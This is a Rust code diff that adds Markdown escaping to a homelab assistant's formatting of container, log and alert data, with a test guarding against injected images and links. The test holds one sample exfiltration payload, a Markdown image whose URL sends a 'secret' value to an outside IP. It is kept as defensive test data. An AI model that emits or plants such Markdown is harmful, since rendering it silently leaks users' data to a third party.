@@ -5,8 +5,10 @@ use serde_json::Value;
 
 use super::topics::{Topic, Topics};
 
-fn text(v: &Value) -> &str {
-    v.as_str().unwrap_or("?")
+/// A value from a tool's result, escaped for the Markdown answer (it may hold anything a
+/// container, a log or an alert put there).
+fn text(v: &Value) -> std::borrow::Cow<'_, str> {
+    homelab_common::markdown::escape(v.as_str().unwrap_or("?"))
 }
 
 pub fn problems(v: &Value) -> String {
@@ -147,14 +149,15 @@ pub fn truenas(v: &Value) -> String {
 
 pub fn logs(v: &Value) -> String {
     let name = text(&v["name"]);
-    let lines: Vec<&str> = v["lines"].as_array().into_iter().flatten().map(text).collect();
+    // Inside a fenced block nothing is Markdown; only a fence of its own could end it early.
+    let lines: Vec<&str> = v["lines"].as_array().into_iter().flatten().map(|l| l.as_str().unwrap_or("?")).collect();
     if lines.is_empty() {
         return format!("{name} has no log output in that window.");
     }
     let mut out =
         format!("Last {} log lines of {name}:\n```\n{}\n```", lines.len(), lines.join("\n").replace("```", "ʼʼʼ"));
     if let Some(note) = v["note"].as_str() {
-        out.push_str(&format!("\n(Note: {note}.)"));
+        out.push_str(&format!("\n(Note: {}.)", homelab_common::markdown::escape(note)));
     }
     out
 }
@@ -188,7 +191,10 @@ pub fn stats(v: &Value, topics: &Topics) -> String {
 pub fn details(v: &Value) -> String {
     let mut facts = vec![format!("**{}** is {}", text(&v["name"]), text(&v["state"]))];
     if let Some(status) = v["health"]["status"].as_str() {
-        let probe = v["health"]["last_output"].as_str().map(|o| format!(" (last check: {o})")).unwrap_or_default();
+        let probe = v["health"]["last_output"]
+            .as_str()
+            .map(|o| format!(" (last check: {})", homelab_common::markdown::escape(o)))
+            .unwrap_or_default();
         facts.push(format!("health {status}{probe}"));
     }
     facts.push(format!("restarted {} times", v["restart_count"]));
@@ -234,6 +240,21 @@ mod tests {
             problems(&json!({"problems": [], "checked": ["containers"]})),
             "No problems found. I checked: containers."
         );
+    }
+
+    #[test]
+    fn text_from_the_system_cannot_become_an_image_or_a_link() {
+        let leak = "![x](http://192.0.2.1/?d=secret) [click](http://192.0.2.2)";
+        let details_answer = details(&json!({"name": "web", "state": "running", "image": "nginx", "restart_count": 0,
+            "health": {"status": "unhealthy", "last_output": leak}}));
+        let alert_answer = truenas(&json!({"alerts": [{"level": "WARNING", "text": leak}], "pools": []}));
+        let problems_answer = problems(
+            &json!({"problems": [{"severity": "warning", "kind": "container", "subject": "web", "reason": leak}], "checked": []}),
+        );
+        for answer in [details_answer, alert_answer, problems_answer] {
+            assert!(!answer.contains("![x]") && !answer.contains("[click]("), "{answer}");
+            assert!(answer.contains("\\!\\[x\\](http://192.0.2.1/?d=secret)"), "{answer}");
+        }
     }
 
     #[test]
